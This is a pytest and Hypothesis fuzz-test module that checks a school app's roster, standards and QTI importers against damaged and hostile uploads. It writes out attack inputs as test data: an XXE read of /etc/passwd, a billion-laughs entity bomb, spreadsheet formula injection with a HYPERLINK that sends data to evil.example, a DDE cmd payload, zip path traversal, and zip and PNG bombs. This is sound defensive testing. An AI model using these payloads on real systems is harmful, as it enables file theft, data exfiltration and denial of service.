"""Fuzzed imports: every importer, fed broken and hostile copies of the real fixture files
(truncated, bytes flipped, a zip with one damaged member, the wrong encoding, XML entity
tricks, formula cells) and Hypothesis's random bytes and mutations, through the job runner
as the pages run it. Whatever the file, the job ends ready or failed with a message of its
own, never the server-error one; a preview writes nothing; an apply that fails (or a preview
that refuses) leaves every table an import could touch exactly as it was."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from django.conf import settings
from django.db import models, transaction
from django.db.backends.base.operations import BaseDatabaseOperations
from hypothesis import HealthCheck, Phase, event, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from masterymap.accounts.models import Classroom, Enrollment, School, User
from masterymap.assessments.models import Choice, Item
from masterymap.exchange import jobs
from masterymap.exchange.models import Job
from masterymap.exchange.plan import Plan
from masterymap.exchange.registry import importers
from masterymap.exchange.tests.fixtures import fixture_path
from masterymap.standards.models import MasteryMap, Standard, Unit
from masterymap.test import SchoolData, build_school

SERVER_ERROR = "Something went wrong on the server"
TeacherLink = Classroom.teachers.through
# Every table an import writes (rosters: people, classes, enrolments, the school's link;
# standards: maps, units, standards; questions: items and their choices).
TABLES = (
    School,
    User,
    Classroom,
    TeacherLink,
    Enrollment,
    MasteryMap,
    Unit,
    Standard,
    Item,
    Choice,
)


@pytest.fixture
def data(db: Any) -> SchoolData:
    return build_school()


# --- running an import as the pages do ---------------------------------------------------------


def snapshot() -> dict[str, Any]:
    """Per table: how many rows, and a hash of every value of every row (archived ones too);
    and the question pictures kept on disk (an apply rolled back must not leave its
    pictures behind)."""
    state: dict[str, Any] = {}
    for model in TABLES:
        rows = list(model._base_manager.order_by("pk").values_list())
        state[model._meta.label] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest())
    pictures = Path(settings.PRIVATE_MEDIA_ROOT, "items")
    state["pictures"] = sorted(str(p) for p in pictures.rglob("*")) if pictures.exists() else []
    return state


@contextmanager
def logged_errors() -> Iterator[list[str]]:
    """The tracebacks the job runner logs when an importer raises."""
    seen: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            seen.append(self.format(record))

    handler = Keep(logging.ERROR)
    handler.setFormatter(logging.Formatter("%(message)s"))
    logger = logging.getLogger(jobs.__name__)
    logger.addHandler(handler)
    try:
        yield seen
    finally:
        logger.removeHandler(handler)


def check_finished(job: Job, stage: str, errors: list[str]) -> None:
    assert job.stage == stage
    assert job.status in (Job.Status.READY, Job.Status.FAILED), job.status
    assert SERVER_ERROR not in job.message, "\n".join(errors) or job.message
    assert not errors, "\n".join(errors)


@dataclass(frozen=True)
class Target:
    """One importer, who runs it, and valid options for them (made by its own form)."""

    key: str
    user: Callable[[SchoolData], User]
    form_data: Callable[[SchoolData], dict[str, str]]

    def options(
        self, data: SchoolData, *, all_or_nothing: bool = False, into: str = ""
    ) -> dict[str, Any]:
        form_data = self.form_data(data)
        if into:
            form_data["target"] = into
        if all_or_nothing:
            form_data["all_or_nothing"] = "on"
        form = importers()[self.key].form(self.user(data), form_data)
        assert form.is_valid(), form.errors
        return form.options()  # type: ignore[attr-defined,no-any-return]


TARGETS = {
    "oneroster": Target("oneroster", lambda d: d.ada, lambda d: {"mastery_map": str(d.grade7.pk)}),
    "case": Target(
        "case",
        lambda d: d.tomas,
        lambda d: {"target": "new", "standards": "auto", "units": "auto"},
    ),
    "standards-csv": Target("standards-csv", lambda d: d.tomas, lambda d: {"target": "new"}),
    "qti": Target("qti", lambda d: d.tomas, lambda d: {"standard": str(d.s2.pk)}),
}


def run_import(
    data: SchoolData,
    key: str,
    content: bytes,
    filename: str,
    *,
    all_or_nothing: bool = False,
    into: str = "",
) -> Job:
    """Preview, then apply, through the job runner; assert no server error, a preview that
    writes nothing and an apply that fails (a refused preview must fail) writing nothing.
    A refused preview is applied too, as a replayed form would: it must change nothing.
    `into` is the map a standards import updates (else a new one)."""
    target = TARGETS[key]
    user = target.user(data)
    options = target.options(data, all_or_nothing=all_or_nothing, into=into)
    before = snapshot()
    with logged_errors() as errors:
        job = jobs.start_preview(
            user=user, importer=importers()[key], data=content, filename=filename, options=options
        )
        check_finished(job, "preview", errors)
        assert snapshot() == before, "the preview wrote"
        if job.status == Job.Status.FAILED:
            # Only a file the importer could not read at all: the net under the importers.
            assert Plan.from_json(job.plan).fatal and job.message
            return job
        refused = Plan.from_json(job.plan).refused(all_or_nothing=all_or_nothing)
        assert jobs.start_apply(job=job)
        job.refresh_from_db()
        check_finished(job, "apply", errors)
    if refused:
        assert job.status == Job.Status.FAILED, "a refused preview applied"
    if job.status == Job.Status.FAILED:
        assert "Nothing was changed" in job.message or Plan.from_json(job.plan).fatal
        assert snapshot() == before, "a failed apply wrote"
    else:
        assert not Plan.from_json(job.plan).refused(all_or_nothing=all_or_nothing)
        check_fits()
    return job


def check_fits() -> None:
    """Every text and number written fits its column as PostgreSQL has it. SQLite enforces
    neither a CharField's max_length nor a small integer's range; PostgreSQL would refuse
    the row in the middle of the apply, with a server error."""
    ranges = BaseDatabaseOperations.integer_field_ranges
    for model in TABLES:
        for field in model._meta.concrete_fields:
            values = model._base_manager.values_list(field.attname, flat=True)
            if isinstance(field, models.CharField) and field.max_length:
                wrong = [v for v in values if v and len(v) > field.max_length]
            elif field.get_internal_type() in ranges and not (
                field.primary_key or field.is_relation
            ):
                low, high = ranges[field.get_internal_type()]
                wrong = [v for v in values if v is not None and not low <= v <= high]
            else:
                continue
            assert not wrong, f"{model._meta.label}.{field.name}: {wrong[:3]}"


@contextmanager
def rolled_back() -> Iterator[None]:
    """One Hypothesis example's writes undone, so the next starts from the same school."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


# --- the fixtures and what each importer reads -------------------------------------------------

LEPO = ("oneroster", "lepo-rosterhub-v1p1-en")
LEPO_FILES = (
    "manifest.csv",
    "orgs.csv",
    "academicSessions.csv",
    "courses.csv",
    "classes.csv",
    "users.csv",
    "enrollments.csv",
)
QTI_ITEMS = (
    "choice.xml",
    "choice_multiple.xml",
    "extended_text.xml",
    "inline_choice.xml",
    "text_entry.xml",
)

STANDARDS_CSV = (
    "unit,code,statement,i_can,order\r\n"
    "Ratios,7.RP.A.1,Unit rates,I can find unit rates,1\r\n"
    "Ratios,7.RP.A.2,Proportions,,2\r\n"
    "Números,7.NS.A.1,Añadir racionales “con signo”,,\r\n"
    '"Expressions, equations",7.EE.A.1,"Apply properties\nof operations",,\r\n'
).encode()


def zip_of(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def members(content: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {i.filename: archive.read(i) for i in archive.infolist() if not i.is_dir()}


def lepo_loose() -> bytes:
    """The loose CSV files, packed as the upload page packs several files."""
    return zip_of({name: fixture_path(*LEPO, name).read_bytes() for name in LEPO_FILES})


@dataclass(frozen=True)
class Fixture:
    """A real file an importer reads, by a short name."""

    key: str  # the importer
    name: str
    kind: str  # "zip", "json", "xml" or "csv"
    load: Callable[[], bytes]
    # Whether it imports as it is (a few fixtures are files the importer must refuse).
    applies: bool = True

    @property
    def filename(self) -> str:
        return self.name.rsplit("/", 1)[-1]


def _file(*parts: str) -> Callable[[], bytes]:
    return lambda: fixture_path(*parts).read_bytes()


FIXTURES = [
    Fixture("oneroster", "lepo/loose-files.zip", "zip", lepo_loose),
    Fixture("oneroster", "lepo/oneroster.zip", "zip", _file(*LEPO, "oneroster.zip")),
    *[
        Fixture("oneroster", f"catalyst/{name}", "zip", _file("oneroster", "catalyst-moodle", name))
        for name in (
            "Test_full_data_set.zip",
            "Test_minimal_data_set.zip",
            "oneroster_test_data.zip",
            "v1p2_full_dataset.zip",
        )
    ],
    Fixture("oneroster", "lepo/users.csv", "csv", _file(*LEPO, "users.csv")),
    Fixture(
        "case", "act.json", "json", _file("case", "act-holistic-math-excerpt-opensalt-test.json")
    ),
    Fixture("case", "ccss.json", "json", _file("case", "ccss-math-casenetwork.json")),
    Fixture("standards-csv", "standards.csv", "csv", lambda: STANDARDS_CSV),
    Fixture(
        "standards-csv",
        "canvas-outcomes.csv",
        "csv",
        _file("gradebook", "canvas-outcomes-import-sample.csv"),
        applies=False,  # Canvas's outcomes, not our template
    ),
    *[
        Fixture("qti", f"{folder}/{name}", "zip", _file("qti", folder, name))
        for folder, name in (
            ("qti22-1edtech", "items-package.zip"),
            ("qti30-1edtech", "simple-package.zip"),
            ("qti30-1edtech", "CASEWithOutcome-package.zip"),
        )
    ],
    *[
        Fixture("qti", f"{folder}/{name}", "xml", _file("qti", folder, name))
        for folder in ("qti22-1edtech", "qti30-1edtech")
        for name in QTI_ITEMS
    ],
    # Refused as they are: students' results, and QTI 1.2.
    Fixture(
        "qti",
        "qti30-1edtech/results-report.xml",
        "xml",
        _file("qti", "qti30-1edtech", "results-report.xml"),
        applies=False,
    ),
    Fixture(
        "qti",
        "canvas-qti12-multiple_answer_item.xml",
        "xml",
        _file("qti", "canvas-qti12-multiple_answer_item.xml"),
        applies=False,
    ),
]


# --- damaged copies -----------------------------------------------------------------------------

XXE = b'<!DOCTYPE qti [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    b'<!DOCTYPE qti [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>\n"
)


def cut(fraction: float) -> Callable[[bytes], bytes]:
    return lambda content: content[: int(len(content) * fraction)]


def flip(mask: int, *fractions: float) -> Callable[[bytes], bytes]:
    """The bytes at these fractions of the file XORed with `mask`."""

    def flipped(content: bytes) -> bytes:
        out = bytearray(content)
        for fraction in fractions:
            at = min(int(len(out) * fraction), len(out) - 1)
            out[at] ^= mask
        return bytes(out)

    return flipped


def recode(encoding: str) -> Callable[[bytes], bytes]:
    """The same text in another encoding, without a byte-order mark."""
    return lambda content: content.decode("utf-8-sig").encode(encoding, errors="replace")


def with_doctype(doctype: bytes, content: bytes) -> bytes:
    """An XML document with `doctype` before its root element, and the root's first text
    replaced by the entity (so a parser that expands it would show it)."""
    body = content.decode("utf-8-sig")
    start = body.index("<", body.index("?>") + 2) if body.lstrip().startswith("<?xml") else 0
    entity = "&xxe;" if b"xxe" in doctype else "&lol9;"
    close = body.index(">", start)
    return (
        body[:start].encode()
        + doctype
        + body[start : close + 1].encode()
        + entity.encode()
        + body[close + 1 :].encode()
    )


def formulas(content: bytes) -> bytes:
    """Every data cell made to look like a spreadsheet formula (=, +, -, @ before it), one of
    them a hyperlink that would send the row away."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    signs = "=+-@"
    for n, row in enumerate(rows[1:]):
        rows[n + 1] = [signs[(n + k) % 4] + cell if cell else cell for k, cell in enumerate(row)]
    if len(rows) > 1 and rows[1]:
        rows[1][-1] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def nested(content: bytes) -> bytes:
    return b"[" * 100_000 + b"]" * 100_000


def _member(files: dict[str, bytes]) -> str:
    """The member the damaged copies of a zip damage: the one the importer reads first."""
    for wanted in ("users.csv", "imsmanifest.xml"):
        for name in files:
            if name.rsplit("/", 1)[-1].lower() == wanted:
                return name
    return next(iter(files))


def _data_offset(archive: bytes, name: str) -> int:
    """Where a member's compressed bytes start in the archive (after its local header)."""
    info = zipfile.ZipFile(io.BytesIO(archive)).getinfo(name)
    start = info.header_offset
    name_length, extra_length = struct.unpack("<HH", archive[start + 26 : start + 30])
    return start + 30 + name_length + extra_length


def in_member(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """The zip with `edit` applied to one member, packed again."""

    def edited(content: bytes) -> bytes:
        files = members(content)
        name = _member(files)
        files[name] = edit(files[name])
        return zip_of(files)

    return edited


def in_text_members(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def edited(content: bytes) -> bytes:
        files = members(content)
        for name in files:
            if name.lower().endswith((".csv", ".xml")):
                files[name] = edit(files[name])
        return zip_of(files)

    return edited


def broken_member(compression: int, at: int, mask: int) -> Callable[[bytes], bytes]:
    """The zip packed again with `compression`, one byte of one member's compressed data
    XORed with `mask` (its header and checksum left as they were)."""

    def broken(content: bytes) -> bytes:
        files = members(content)
        name = _member(files)
        archive = bytearray(zip_of(files, compression))
        archive[_data_offset(bytes(archive), name) + at] ^= mask
        return bytes(archive)

    return broken


def in_pictures(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def edited(content: bytes) -> bytes:
        files = members(content)
        for name in files:
            if name.lower().endswith((".png", ".jpg", ".jpeg", ".gif")):
                files[name] = edit(files[name])
        return zip_of(files)

    return edited


def huge_png(content: bytes) -> bytes:
    """A PNG whose header claims 60,000 × 60,000 pixels (a decompression bomb), whatever
    the picture was."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def with_member(name: str, data: bytes) -> Callable[[bytes], bytes]:
    return lambda content: zip_of({**members(content), name: data})


def encrypted(content: bytes) -> bytes:
    """The first member marked as encrypted (in the central directory, where readers look)."""
    archive = bytearray(content)
    at = archive.index(b"PK\x01\x02")
    archive[at + 8] |= 0x1
    return bytes(archive)


Mutation = Callable[[bytes], bytes]

ANY: dict[str, Mutation] = {
    "empty": cut(0),
    "first-byte": lambda content: content[:1],
    "cut-at-10%": cut(0.1),
    "cut-at-50%": cut(0.5),
    "cut-at-90%": cut(0.9),
    "last-byte-missing": lambda content: content[:-1],
    "low-bits-flipped": flip(0x01, 0.1, 0.5, 0.9),
    "high-bits-flipped": flip(0x80, 0.25, 0.5, 0.75),
    "bytes-inverted": flip(0xFF, 0.05, 0.33),
}
TEXT: dict[str, Mutation] = {
    "utf-16-without-bom": recode("utf-16-le"),
    "latin-1": recode("latin-1"),
}
BY_KIND: dict[str, dict[str, Mutation]] = {
    "json": {**TEXT, "nested-100000-deep": nested},
    "csv": {**TEXT, "formula-cells": formulas},
    "xml": {
        **TEXT,
        "external-entity": lambda content: with_doctype(XXE, content),
        "billion-laughs": lambda content: with_doctype(LAUGHS, content),
    },
    "zip": {
        "member-cut-in-half": in_member(lambda content: content[: len(content) // 2]),
        "member-emptied": in_member(lambda content: b""),
        "member-checksum-wrong": broken_member(zipfile.ZIP_STORED, 10, 0x01),
        "member-bzip2-broken": broken_member(zipfile.ZIP_BZIP2, 10, 0xFF),
        "member-deflate-broken": broken_member(zipfile.ZIP_DEFLATED, 0, 0x06),
        "member-lzma-broken": broken_member(zipfile.ZIP_LZMA, 10, 0xFF),
        "members-utf-16-without-bom": in_text_members(recode("utf-16-le")),
        "members-latin-1": in_text_members(recode("latin-1")),
        "path-outside": with_member("../../etc/evil.csv", b"sourcedId\nx\n"),
        "bomb": with_member("bomb.xml", b" " * 5_000_000),
        "encrypted": encrypted,
        "no-members": lambda content: b"PK\x05\x06" + b"\x00" * 18,
    },
}
ZIP_OF_CSV = {"member-formula-cells": in_member(formulas)}
WITH_PICTURES = {
    "pictures-cut-in-half": in_pictures(lambda content: content[: len(content) // 2]),
    "pictures-not-pictures": in_pictures(lambda content: b"<script>alert(1)</script>"),
    "pictures-of-3600-megapixels": in_pictures(huge_png),
}
ZIP_OF_XML = {
    "member-external-entity": in_member(lambda content: with_doctype(XXE, content)),
    "member-billion-laughs": in_member(lambda content: with_doctype(LAUGHS, content)),
}


def mutations(fixture: Fixture) -> dict[str, Mutation]:
    extra = BY_KIND[fixture.kind]
    if fixture.kind == "zip":
        extra = {**extra, **(ZIP_OF_CSV if fixture.key == "oneroster" else ZIP_OF_XML)}
    if fixture.name.endswith(("items-package.zip", "simple-package.zip")):
        extra = {**extra, **WITH_PICTURES}
    return {**ANY, **extra}


def _param(fixture: Fixture, name: str, mutation: Mutation) -> Any:
    case_id = f"{fixture.key}:{fixture.name}:{name}"
    return pytest.param(fixture, mutation, id=case_id)


CASES = [
    _param(fixture, name, mutation)
    for fixture in FIXTURES
    for name, mutation in mutations(fixture).items()
]


@pytest.mark.parametrize("fixture", FIXTURES, ids=lambda fixture: fixture.name)
def test_each_fixture_as_it_is_applies_or_is_refused_as_expected(
    data: SchoolData, fixture: Fixture
) -> None:
    """The files the damaged copies come from: so a damaged copy that fails, fails because of
    its damage, not because of the options or the person."""
    job = run_import(data, fixture.key, fixture.load(), fixture.filename)
    assert job.stage == "apply"
    assert job.status == (Job.Status.READY if fixture.applies else Job.Status.FAILED)


@pytest.mark.parametrize(("fixture", "mutation"), CASES)
def test_a_damaged_copy_of_a_fixture_ends_without_a_server_error_or_a_partial_write(
    data: SchoolData, fixture: Fixture, mutation: Mutation
) -> None:
    """Each fixture cut short, with bytes flipped, in another encoding, with hostile XML or
    formula cells, or (a package) with one member damaged."""
    job = run_import(data, fixture.key, mutation(fixture.load()), fixture.filename)
    assert job.finished


# --- Hypothesis: random files, and random changes to the fixtures -------------------------------

FUZZ = hypothesis_settings(
    derandomize=True,
    database=None,
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FILENAMES = {
    "oneroster": ("roster.zip", "users.csv", "enrollments.csv"),
    "case": ("package.json",),
    "standards-csv": ("standards.csv",),
    "qti": ("item.xml", "package.zip"),
}
MEMBER_NAMES = (
    "manifest.csv",
    "users.csv",
    "orgs.csv",
    "classes.csv",
    "enrollments.csv",
    "imsmanifest.xml",
    "q.xml",
    "images/a.png",
)
# How files start: nothing, a zip, an empty zip, byte-order marks, JSON, XML, a roster header.
PREFIXES = (
    b"",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"{",
    b"<?xml version='1.0'?>\n<",
    b"sourcedId,status,role\n",
)
# Pieces that mean something to one of the formats, spliced in among random bytes.
TOKENS = (
    b'"',
    b",",
    b"\n",
    b"\r\n",
    b"{",
    b"}",
    b"[]",
    b":",
    b"null",
    b"true",
    b"-1",
    b"1e999",
    b"NaN",
    b"<",
    b"/>",
    b"</",
    b"&amp;",
    b"&#0;",
    b"<![CDATA[",
    b"]]>",
    b"\x00",
    b"\xc3",
    b"tobedeleted",
    b"teacher",
    b"=cmd|' /C calc'!A0",
    b"x" * 300,
)

random_files = st.one_of(
    st.builds(lambda prefix, rest: prefix + rest, st.sampled_from(PREFIXES), st.binary()),
    st.dictionaries(st.sampled_from(MEMBER_NAMES), st.binary(max_size=200), max_size=4).map(zip_of),
)
edits = st.lists(
    st.tuples(
        st.sampled_from(("overwrite", "insert", "delete")),
        st.integers(min_value=0, max_value=1000),  # where, in thousandths of the length
        st.one_of(st.binary(min_size=1, max_size=24), st.sampled_from(TOKENS)),
    ),
    min_size=1,
    max_size=4,
)


def splice(content: bytes, changes: list[tuple[str, int, bytes]]) -> bytes:
    """`content` with each change made in turn, at its place in thousandths of the length."""
    out = bytearray(content)
    for how, place, piece in changes:
        at = len(out) * place // 1000
        if how == "overwrite":
            out[at : at + len(piece)] = piece
        elif how == "insert":
            out[at:at] = piece
        else:
            del out[at : at + len(piece)]
    return bytes(out)


def import_twice(
    data: SchoolData,
    key: str,
    original: bytes,
    changed: bytes,
    filename: str,
    *,
    again: bool,
    all_or_nothing: bool = False,
) -> Job:
    """Import `changed`; when `again`, over the original imported first (into the same map,
    class list or item bank), so that updates, removals and renames are fuzzed too."""
    into = ""
    if again:
        first = run_import(data, key, original, filename)
        assert (first.stage, first.status) == ("apply", Job.Status.READY)
        into = str(first.plan["facts"].get("map_id", ""))
    return run_import(data, key, changed, filename, all_or_nothing=all_or_nothing, into=into)


def outcome(job: Job) -> str:
    """How far the file got, for `--hypothesis-show-statistics`."""
    if job.stage == "preview":
        return "refused by the preview"
    return f"applied: {job.status}"


def _fuzzed(key: str, kinds: tuple[str, ...]) -> list[Fixture]:
    # The Common Core package is left to the fixed cases: a change that leaves it readable
    # imports 400 standards, too slow to do forty times.
    return [f for f in FIXTURES if f.key == key and f.kind in kinds and f.name != "ccss.json"]


@pytest.mark.parametrize("key", list(TARGETS))
@FUZZ
@given(content=random_files, pick=st.integers(0, 2), all_or_nothing=st.booleans())
def test_random_bytes_end_without_a_server_error_or_a_write(
    data: SchoolData, key: str, content: bytes, pick: int, all_or_nothing: bool
) -> None:
    """Random bytes, some starting as a zip, JSON, XML or a roster would, and zips of
    random members with the names the importers look for."""
    names = FILENAMES[key]
    with rolled_back():
        job = run_import(
            data, key, content, names[pick % len(names)], all_or_nothing=all_or_nothing
        )
        assert job.finished
        event(outcome(job))


@pytest.mark.parametrize("key", list(TARGETS))
@FUZZ
@given(pick=st.integers(0, 2**16), changes=edits, all_or_nothing=st.booleans())
def test_a_fixture_with_random_changes_ends_without_a_server_error_or_a_partial_write(
    data: SchoolData,
    key: str,
    pick: int,
    changes: list[tuple[str, int, bytes]],
    all_or_nothing: bool,
) -> None:
    """Changes in a text file, or in one text member of a package (packed again, so the
    archive itself stays sound and the importer reads the damaged text)."""
    fixtures = _fuzzed(key, ("json", "csv", "xml", "zip"))
    fixture = fixtures[pick % len(fixtures)]
    content = fixture.load()
    if fixture.kind == "zip":
        files = members(content)
        texts = sorted(n for n in files if n.lower().endswith((".csv", ".xml")))
        name = texts[(pick // len(fixtures)) % len(texts)]
        content = zip_of({**files, name: splice(files[name], changes)})
    else:
        content = splice(content, changes)
    with rolled_back():
        job = run_import(data, key, content, fixture.filename, all_or_nothing=all_or_nothing)
        assert job.finished
        event(outcome(job))


@pytest.mark.parametrize("key", ["oneroster", "qti"])
@FUZZ
@given(pick=st.integers(0, 2**16), changes=edits)
def test_a_stored_package_with_random_changes_ends_without_a_server_error_or_a_write(
    data: SchoolData, key: str, pick: int, changes: list[tuple[str, int, bytes]]
) -> None:
    """Changes anywhere in a package's bytes (headers, directory, data), its members stored
    uncompressed: a damaged member is caught by its checksum."""
    fixtures = _fuzzed(key, ("zip",))
    fixture = fixtures[pick % len(fixtures)]
    content = splice(zip_of(members(fixture.load()), zipfile.ZIP_STORED), changes)
    with rolled_back():
        job = run_import(data, key, content, fixture.filename)
        assert job.finished
        event(outcome(job))


@pytest.mark.parametrize("key", ["oneroster", "qti"])
@hypothesis_settings(FUZZ, phases=[Phase.generate])
@given(pick=st.integers(0, 2**16), changes=edits)
def test_a_package_with_random_changes_ends_without_a_server_error_or_a_write(
    data: SchoolData, key: str, pick: int, changes: list[tuple[str, int, bytes]]
) -> None:
    """Changes anywhere in a package as it came (deflated). Not shrunk: the first failure
    is the known bug."""
    fixtures = _fuzzed(key, ("zip",))
    fixture = fixtures[pick % len(fixtures)]
    content = splice(fixture.load(), changes)
    with rolled_back():
        job = run_import(data, key, content, fixture.filename)
        assert job.finished
        event(outcome(job))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=50),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=12), children, max_size=3)
    ),
    max_leaves=6,
)


def _paths(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path to every value in a JSON document, the document itself first."""
    yield path
    children = (
        node.items()
        if isinstance(node, dict)
        else enumerate(node)
        if isinstance(node, list)
        else ()
    )
    for key, child in children:
        yield from _paths(child, (*path, key))


@FUZZ
@given(
    pick=st.integers(0, 2**16),
    value=json_values,
    again=st.booleans(),
    all_or_nothing=st.booleans(),
)
def test_a_case_package_with_any_value_anywhere_ends_without_a_server_error_or_a_partial_write(
    data: SchoolData, pick: int, value: Any, again: bool, all_or_nothing: bool
) -> None:
    """The CASE excerpt with one value (an item's code, a whole CFItems list, an
    association's end...) replaced by any JSON value: valid JSON, a wrong package. Into a
    new map, or into the map the original made."""
    original = fixture_path("case", "act-holistic-math-excerpt-opensalt-test.json").read_bytes()
    package = json.loads(original)
    paths = list(_paths(package))[1:]
    *parents, last = paths[pick % len(paths)]
    node = package
    for step in parents:
        node = node[step]
    node[last] = value
    content = json.dumps(package).encode()
    with rolled_back():
        job = import_twice(
            data, "case", original, content, "act.json", again=again, all_or_nothing=all_or_nothing
        )
        assert job.finished
        event(outcome(job))


cells = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        (
            "",
            "tobedeleted",
            "inactive",
            "student",
            "teacher",
            "administrator",
            "true",
            "false",
            "2024-13-45",
            "or0001",
            "us0001",
            "cl0001",
            "=1+1",
            "x" * 300,
            "  ",
            "\x00",
        )
    ),
)


@pytest.mark.parametrize("key", ["oneroster", "standards-csv"])
@FUZZ
@given(
    pick=st.integers(0, 2**16),
    changes=st.lists(st.tuples(st.integers(0, 2**16), cells), min_size=1, max_size=3),
    again=st.booleans(),
    all_or_nothing=st.booleans(),
)
def test_a_csv_file_with_any_text_in_any_cell_ends_without_a_server_error_or_a_partial_write(
    data: SchoolData,
    key: str,
    pick: int,
    changes: list[tuple[int, str]],
    again: bool,
    all_or_nothing: bool,
) -> None:
    """A few cells of one roster file (the loose lepo files) or of the standards CSV
    replaced by any text: a well-formed CSV file with wrong values. On its own, or over the
    original imported first (so that renames, removals and moves are fuzzed too)."""
    fixture = next(f for f in FIXTURES if f.key == key and f.kind in ("csv", "zip"))
    original = fixture.load()
    files = members(original) if fixture.kind == "zip" else {fixture.filename: original}
    name = sorted(files)[pick % len(files)]
    rows = list(csv.reader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))
    spots = [(r, c) for r, row in enumerate(rows) for c in range(len(row))]
    for at, value in changes:
        r, c = spots[at % len(spots)]
        rows[r][c] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    files[name] = out.getvalue().encode()
    content = zip_of(files) if fixture.kind == "zip" else files[name]
    with rolled_back():
        job = import_twice(
            data,
            key,
            original,
            content,
            fixture.filename,
            again=again,
            all_or_nothing=all_or_nothing,
        )
        assert job.finished
        event(outcome(job))


xml_values = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=30),
    st.sampled_from(
        (
            "",
            "-1",
            "0",
            "1e999",
            "NaN",
            "inf",
            "99999",
            "1e6",
            "3.5",
            "single",
            "multiple",
            "ordered",
            "float",
            "integer",
            "string",
            "identifier",
            "true",
            "false",
            "RESPONSE",
            "MAXSCORE",
            "SCORE",
            "../../../etc/passwd",
            "images/sign.png",
            "data:image/png;base64,AAAA",
            "http://evil.example/a.png",
        )
    ),
)


@FUZZ
@given(
    pick=st.integers(0, 2**16),
    at=st.integers(0, 2**16),
    value=st.one_of(st.none(), xml_values),
    again=st.booleans(),
    all_or_nothing=st.booleans(),
)
def test_a_question_with_any_attribute_or_text_ends_without_a_server_error_or_a_partial_write(
    data: SchoolData, pick: int, at: int, value: str | None, again: bool, all_or_nothing: bool
) -> None:
    """One attribute or text of a QTI item (alone, or in the simple package with its
    picture and manifest) set to any value, or one element removed (`value` None): well-formed
    XML, a wrong question. Into an empty bank, or over the original (an update)."""
    fixtures = [
        f
        for f in FIXTURES
        if f.key == "qti" and f.applies and f.name != "qti22-1edtech/items-package.zip"
    ]
    fixture = fixtures[pick % len(fixtures)]
    original = fixture.load()
    files = members(original) if fixture.kind == "zip" else {fixture.filename: original}
    xml_names = sorted(n for n in files if n.endswith(".xml"))
    name = xml_names[(pick // len(fixtures)) % len(xml_names)]
    root = ElementTree.fromstring(files[name])
    parents = {child: parent for parent in root.iter() for child in parent}
    spots = [(el, attr) for el in root.iter() for attr in (None, *el.attrib)]
    element, attr = spots[at % len(spots)]
    if value is None and element in parents:
        parents[element].remove(element)
    elif attr is None:
        element.text = value or ""
    else:
        element.set(attr, value or "")
    files[name] = ElementTree.tostring(root, encoding="utf-8")
    content = zip_of(files) if fixture.kind == "zip" else files[name]
    with rolled_back():
        job = import_twice(
            data,
            "qti",
            original,
            content,
            fixture.filename,
            again=again,
            all_or_nothing=all_or_nothing,
        )
        assert job.finished
        event(outcome(job))
